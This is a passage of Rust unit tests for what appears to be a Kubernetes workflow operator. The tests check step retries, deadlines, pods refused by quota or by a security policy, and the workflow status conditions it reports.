    assert_eq!(choice, PluginChoice::Pinned("abc".into()));

    let plan = plan_plugin_missing(&wf, &choice, now());
    assert_eq!(plan.status.phase, Some(Phase::Pending));
    let (status, why, message) = condition(&plan);
    assert_eq!((status, why), ("Unknown", "PluginMissing"));
    assert!(message.contains("sha256:abc"), "{message}");
    assert_eq!(plan.events.len(), 1);
    // Reconciled again with that status written: nothing new to say.
    wf.status = Some(plan.status.clone());
    assert!(plan_plugin_missing(&wf, &choice, now()).events.is_empty());
}

#[test]
fn a_step_completed_in_status_is_not_judged_again_even_when_its_pod_is_gone() {
    let wf = workflow(SEED);
    let judge = Judge::new();
    let first = plan_now(
        &wf,
        &attempts(&[("validate-nodes", 1, Some((0, "ok")))]),
        &judge,
    );
    let mut wf = wf;
    wf.status = Some(first.status);
    let judged = judge.seen.borrow().len();
    let again = plan_now(&wf, &attempts(&[("check-network", 1, None)]), &judge);
    assert_eq!(
        judge.seen.borrow().len(),
        judged,
        "evaluate was called again"
    );
    assert_eq!(again.status.step_status["validate-nodes"], Phase::Completed);
    assert!(again.create.is_empty(), "nothing runs twice");
}

#[test]
fn a_running_steps_pod_that_vanished_is_a_failed_attempt_retried_within_its_budget() {
    let mut wf = workflow(&[("flaky", &[])]);
    wf.spec.steps[0].retries = Some(1);
    // This judge asks for a retry when there is no exit code, as for a vanished pod.
    let judge = Judge::new();
    let started = plan_now(&wf, &Attempts::new(), &judge);
    assert_eq!(starts(&started), [("flaky".to_string(), 1)]);
    wf.status = Some(started.status);
    // The pod of attempt 1 is gone: a failed attempt, so attempt 2 starts (not 1 again).
    let plan = plan_now(&wf, &Attempts::new(), &judge);
    assert_eq!(starts(&plan), [("flaky".to_string(), 2)]);
    assert_eq!(plan.status.step_status["flaky"], Phase::Running);
    assert!(
        judge.seen.borrow()[0].message.contains("deleted"),
        "{:?}",
        judge.seen.borrow()
    );
}

#[test]
fn an_unfinished_attempt_requeues_at_its_deadline_and_a_stuck_one_is_stopped() {
    let wf = workflow(SEED);
    let mut running = attempts(&[("validate-nodes", 1, None)]);
    if let Some(a) = running.get_mut("validate-nodes") {
        a.deadline = Some(now().as_second() + 30);
    }
    let plan = plan_now(&wf, &running, &Judge::new());
    assert_eq!(plan.requeue_after, Some(Duration::from_secs(30)));
    assert!(plan.stop.is_empty());

    let mut stuck = attempts(&[("validate-nodes", 1, Some((-1, "DeadlineExceeded")))]);
    if let Some(a) = stuck.get_mut("validate-nodes") {
        // Unfinished at its deadline, which has just passed.
        a.at_deadline = a.outcome.take();
        a.deadline = Some(now().as_second());
    }
    let plan = plan_now(&wf, &stuck, &Judge::new());
    assert_eq!(plan.stop, ["pod-validate-nodes-1".to_string()]);
    assert_eq!(plan.status.phase, Some(Phase::Failed));
}

/// A step stopped at its deadline, then reconciled again on a Workflow cached before that
/// status was written (its pod's deletion came in first): while its pod is being stopped, and
/// once its container was killed, it is judged as the deadline judged it, the same status, so
/// nothing is written over it.
#[test]
fn a_step_stopped_at_its_deadline_is_judged_so_again_from_a_cache_older_than_that_write() {
    use super::super::pod::{CONTAINER, CachedPod, build_pod, latest_attempts};
    use k8s_openapi::api::core::v1::{
        ContainerState, ContainerStateTerminated, ContainerStatus, PodStatus,
    };

    let mut wf = workflow(SEED);
    wf.spec.steps[0].timeout_seconds = Some(30);
    let mut judge = Judge::new();
    // Judged by exit code: none (a deadline) fails.
    judge.retry_exit_code = Some(75);
    let started_at = now().as_second() - 30;
    let started = plan_workflow(
        &wf,
        &Observed::default(),
        &judge,
        &plugin_ref(),
        &StepDefaults::image("busybox:1.36"),
        Timestamp::from_second(started_at).unwrap(),
    );
    assert_eq!(starts(&started), [("validate-nodes".to_string(), 1)]);
    wf.status = Some(started.status);
    let mut pod = build_pod(
        &wf,
        &wf.spec.steps[0],
        1,
        &StepDefaults::image("busybox:1.36"),
    );
    pod.metadata.creation_timestamp = Some(Time(Timestamp::from_second(started_at).unwrap()));
    pod.status = Some(PodStatus {
        phase: Some("Running".into()),
        ..PodStatus::default()
    });
    let plan_at = |pod: &Pod, second: i64| {
        let at = Timestamp::from_second(second).unwrap();
        let observed = Observed {
            attempts: latest_attempts(&wf, &[CachedPod::from(pod.clone())], at),
            ..Observed::default()
        };
        plan_workflow(
            &wf,
            &observed,
            &judge,
            &plugin_ref(),
            &StepDefaults::image("busybox:1.36"),
            at,
        )
    };

    // At its deadline (a second late): failed, its pod stopped.
    let deadline = plan_at(&pod, now().as_second() + 1);
    assert_eq!(deadline.stop, [pod.name_any()]);
    assert_eq!(deadline.status.phase, Some(Phase::Failed));
    let message = deadline.status.step_details["validate-nodes"]
        .message
        .clone();
    assert!(
        message
            .as_deref()
            .is_some_and(|m| m.contains("DeadlineExceeded")),
        "{message:?}"
    );

    // Its pod being stopped (deletion asked then, 30 s of grace), seen two seconds later.
    pod.metadata.deletion_timestamp = Some(Time(
        Timestamp::from_second(now().as_second() + 31).unwrap(),
    ));
    pod.metadata.deletion_grace_period_seconds = Some(30);
    let terminating = plan_at(&pod, now().as_second() + 3);
    assert_eq!(terminating.status, deadline.status);
    assert!(terminating.stop.is_empty(), "already stopped");

    // Then Failed, its container killed by the stop.
    pod.status = Some(PodStatus {
        phase: Some("Failed".into()),
        container_statuses: Some(vec![ContainerStatus {
            name: CONTAINER.into(),
            state: Some(ContainerState {
                terminated: Some(ContainerStateTerminated {
                    exit_code: 137,
                    reason: Some("Error".into()),
                    finished_at: Some(Time(Timestamp::from_second(now().as_second() + 2).unwrap())),
                    ..ContainerStateTerminated::default()
                }),
                ..ContainerState::default()
            }),
            ..ContainerStatus::default()
        }]),
        ..PodStatus::default()
    });
    assert_eq!(plan_at(&pod, now().as_second() + 4).status, deadline.status);

    // A pod deleted before its deadline still says so.
    pod.metadata.deletion_timestamp = Some(Time(
        Timestamp::from_second(now().as_second() + 20).unwrap(),
    ));
    pod.status = Some(PodStatus {
        phase: Some("Running".into()),
        ..PodStatus::default()
    });
    let deleted = plan_at(&pod, now().as_second() - 5);
    let message = deleted.status.step_details["validate-nodes"]
        .message
        .clone();
    assert!(
        message
            .as_deref()
            .is_some_and(|m| m.contains("deleted before it finished")),
        "{message:?}"
    );
}

const FULL_QUOTA: &str = "pods \"p\" is forbidden: exceeded quota: none, requested: pods=1, used: pods=0, limited: pods=0";

#[test]
fn a_step_whose_pod_a_full_quota_refuses_waits_saying_so_and_is_tried_again() {
    let wf = workflow(SEED);
    let plan = plan_refused(&wf, &Attempts::new(), &[("validate-nodes", FULL_QUOTA)]);
    assert!(plan.create.is_empty(), "{:?}", starts(&plan));
    assert_eq!(plan.status.step_status["validate-nodes"], Phase::Pending);
    let detail = &plan.status.step_details["validate-nodes"];
    assert_eq!(
        (detail.attempts, detail.pod.as_deref()),
        (0, None),
        "no attempt started"
    );
    assert!(
        detail
            .message
            .as_deref()
            .is_some_and(|m| m.contains("exceeded quota: none"))
    );
    let (status, why, message) = condition(&plan);
    assert_eq!((status, why), ("Unknown", "PodRefused"));
    assert!(
        message.contains("step validate-nodes waits") && message.contains("exceeded quota"),
        "{message}"
    );
    assert!(plan.refused.is_some(), "retried with backoff");
    let reasons: Vec<_> = plan.events.iter().map(|e| e.reason.as_str()).collect();
    assert_eq!(reasons, ["PodRefused"]);
    // Said once: the next refusal changes nothing people see.
    let mut waiting = wf.clone();
    waiting.status = Some(plan.status);
    let again = plan_refused(
        &waiting,
        &Attempts::new(),
        &[("validate-nodes", FULL_QUOTA)],
    );
    assert!(again.events.is_empty(), "{:?}", again.events);
    // Room again: the step starts.
    let room = plan_now(&waiting, &Attempts::new(), &Judge::new());
    assert_eq!(starts(&room), [("validate-nodes".to_string(), 1)]);
    assert_eq!(condition(&room).1, "Running");
}

#[test]
fn a_retry_whose_pod_a_full_quota_refuses_keeps_the_previous_attempt_recorded() {
    let mut wf = workflow(&[("flaky", &[])]);
    wf.spec.steps[0].retries = Some(2);
    let mut judge = Judge::new();
    judge.retry_exit_code = Some(75);
    let mut started = wf.clone();
    started.status = Some(plan_now(&wf, &Attempts::new(), &judge).status);
    let observed = Observed {
        attempts: attempts(&[("flaky", 1, Some((75, "busy")))]),
        refused: [("flaky".to_string(), PodRefusal::new(FULL_QUOTA))].into(),
        ..Observed::default()
    };
    let plan = plan_workflow(
        &started,
        &observed,
        &judge,
        &plugin_ref(),
        &StepDefaults::image("busybox:1.36"),
        now(),
    );
    assert!(plan.create.is_empty());
    let detail = &plan.status.step_details["flaky"];
    assert_eq!(
        (detail.attempts, detail.pod.as_deref()),
        (1, Some("pod-flaky-1"))
    );
    assert_eq!(plan.status.step_status["flaky"], Phase::Running);
    assert_eq!(condition(&plan).1, "PodRefused");
}

#[test]
fn a_step_whose_pod_a_policy_refuses_fails_the_workflow_quoting_the_refusal() {
    let wf = workflow(SEED);
    let refusal =
        "pods \"p\" is forbidden: violates PodSecurity \"restricted:latest\": runAsNonRoot != true";
    let plan = plan_refused(&wf, &Attempts::new(), &[("validate-nodes", refusal)]);
    assert!(plan.create.is_empty());
    assert_eq!(plan.status.phase, Some(Phase::Failed));
    let (status, why, message) = condition(&plan);
    assert_eq!((status, why), ("False", "StepFailed"));
    assert_eq!(
        message,
        format!("step validate-nodes: its pod was refused: {refusal}")
    );
    let reasons: Vec<_> = plan.events.iter().map(|e| e.reason.as_str()).collect();
    assert_eq!(reasons, ["StepFailed", "WorkflowFailed"]);
    assert!(plan.refused.is_none(), "nothing to retry");
}

#[test]
fn a_deadline_just_past_is_looked_at_again_after_a_short_floor_not_at_once() {
    let wf = workflow(SEED);
    let mut running = attempts(&[("validate-nodes", 1, None)]);
    if let Some(a) = running.get_mut("validate-nodes") {
        // Its deadline passed, but the pod gave no deadline evidence (no timeout known).
        a.deadline = Some(now().as_second() - 5);
    }
    let plan = plan_now(&wf, &running, &Judge::new());
    assert_eq!(plan.requeue_after, Some(MIN_REQUEUE));
    assert!(plan.stop.is_empty());
}

#[test]
fn a_running_step_whose_pod_name_is_not_recorded_is_not_presumed_deleted() {
    let wf = workflow(SEED);
    let mut started = plan_now(&wf, &Attempts::new(), &Judge::new());
    assert_eq!(
        started.status.step_details["validate-nodes"].pod.as_deref(),
        Some(pod_name(&wf, "validate-nodes", 1).as_str()),
        "a started step records its pod"
    );
    if let Some(detail) = started.status.step_details.get_mut("validate-nodes") {
        detail.pod = None;
    }
    let mut wf = wf;
    wf.status = Some(started.status);
    let plan = plan_now(&wf, &Attempts::new(), &Judge::new());
    assert_eq!(plan.status.phase, Some(Phase::Running));
    assert!(plan.status.step_details["validate-nodes"].message.is_none());
}

#[test]
fn a_dependent_started_in_the_same_reconcile_is_timed_from_its_dependency_seen_finished() {
    let wf = workflow(SEED);
    let seen = Timestamp::from_second(1_799_999_999).unwrap();
    let mut done = attempts(&[("validate-nodes", 1, Some((0, "ok")))]);
    if let Some(a) = done.get_mut("validate-nodes") {
        a.observed = Some(seen);
    }
    let plan = plan_now(&wf, &done, &Judge::new());
    assert_eq!(starts(&plan), [("check-network".to_string(), 1)]);
    assert_eq!(plan.create[0].ready_since, Some(seen));
    // A first step has nothing to wait for: it is not timed.
    let plan = plan_now(&wf, &Attempts::new(), &Judge::new());
    assert!(plan.create.iter().all(|start| start.ready_since.is_none()));
}

#[test]
fn a_pending_or_running_workflow_is_reconciling_whatever_it_waits_for() {
    let mut paused = workflow(SEED);
    paused.spec.paused = true;
    let gated = Judge {
        gate: Ok(Gate::NotBefore(now().as_second() + 60)),
        ..Judge::new()
    };
    let unavailable = Judge {
        gate: Err(timeout("gate")),
        ..Judge::new()
    };
    let params_unavailable = Judge {
        params: Err(timeout("validate")),
        ..Judge::new()
    };
    let none = Attempts::new();
    let running = attempts(&[("validate-nodes", 1, None)]);
    let cases = [
        ("starting", plan_now(&workflow(SEED), &none, &Judge::new())),
        (
            "running",
            plan_now(&workflow(SEED), &running, &Judge::new()),
        ),
        ("paused", plan_now(&paused, &none, &Judge::new())),
        (
            "waiting for its schedule",
            plan_now(&workflow(SEED), &none, &gated),
        ),
        (
            "plugin unavailable",
            plan_now(&workflow(SEED), &none, &unavailable),
        ),
        (
            "params check unavailable",
            plan_now(&workflow(SEED), &none, &params_unavailable),
        ),
        (
            "plugin missing",
            plan_plugin_missing(&workflow(SEED), &PluginChoice::Current, now()),
        ),
    ];
    for (case, plan) in cases {
        assert_eq!(condition(&plan).0, "Unknown", "{case}");
        assert_eq!(
            kstatus_conditions(&plan.status.conditions),
            RECONCILING,
            "{case}"
        );
    }
}

#[test]
fn a_completed_workflow_is_ready_and_a_failed_one_stalled_and_neither_is_reconciling() {
    let mut wf = workflow(SEED);
    let started = plan_now(&wf, &Attempts::new(), &Judge::new());
    wf.status = Some(started.status);
    let done = attempts(&[
        ("validate-nodes", 1, Some((0, ""))),
        ("check-network", 1, Some((0, ""))),
    ]);
    let plan = plan_now(&wf, &done, &Judge::new());
    assert_eq!(plan.status.phase, Some(Phase::Completed));
    assert_eq!(kstatus_conditions(&plan.status.conditions), READY);

    let failed = attempts(&[("validate-nodes", 1, Some((3, "disk full")))]);
    let plan = plan_now(&wf, &failed, &Judge::new());
    assert_eq!(plan.status.phase, Some(Phase::Failed));
    assert_eq!(kstatus_conditions(&plan.status.conditions), STALLED);

    let refused = Judge {
        params: Err(refused_params()),
        ..Judge::new()
    };
    let cycle = workflow(&[("a", &["b"]), ("b", &["a"])]);
    for plan in [
        plan_now(&workflow(SEED), &Attempts::new(), &refused),
        plan_now(&cycle, &Attempts::new(), &Judge::new()),
    ] {
        assert_eq!(plan.status.phase, Some(Phase::Failed));
        assert_eq!(kstatus_conditions(&plan.status.conditions), STALLED);
    }
}

#[test]
fn a_status_of_only_observed_generation_zero_is_no_status_yet() {
    // What the API server shows (the CRD's default) before the operator's first write.
    let mut fresh = workflow(SEED);
    fresh.metadata.generation = Some(1);
    let mut defaulted = fresh.clone();
    defaulted.status = Some(WorkflowStatus {
        observed_generation: Some(0),
        ..WorkflowStatus::default()
    });
    let refused = Judge {
        params: Err(refused_params()),
        ..Judge::new()
    };
    for judge in [Judge::new(), refused] {
        let expected = plan_now(&fresh, &Attempts::new(), &judge);
        let plan = plan_now(&defaulted, &Attempts::new(), &judge);
        assert_eq!(plan, expected);
        assert_eq!(plan.status.observed_generation, Some(1));
    }
    // Its params are checked, as a new workflow's are.
    assert!(params_due_for_check(
        &defaulted,
        defaulted.status.as_ref().unwrap(),
        &Attempts::new()
    ));
    assert_eq!(
        plan_plugin_missing(&defaulted, &PluginChoice::Current, now()),
        plan_plugin_missing(&fresh, &PluginChoice::Current, now())
    );
    assert_eq!(plugin_choice(&defaulted), PluginChoice::Current);
}

#[test]
fn a_workflow_finished_before_the_kstatus_conditions_existed_gets_them_and_nothing_else() {
    let mut wf = workflow(SEED);
    let done = attempts(&[
        ("validate-nodes", 1, Some((0, ""))),
        ("check-network", 1, Some((0, ""))),
    ]);
    let completed = plan_now(&wf, &done, &Judge::new());
    let mut old = completed.status.clone();
    old.conditions.retain(|c| c.type_ == "Succeeded");
    wf.status = Some(old);
    let plan = plan_finished(&wf);
    assert_eq!(plan.status, completed.status);
    assert!(plan.create.is_empty() && plan.events.is_empty());
    wf.status = Some(plan.status.clone());
    assert_eq!(Some(plan_finished(&wf).status), wf.status);
}
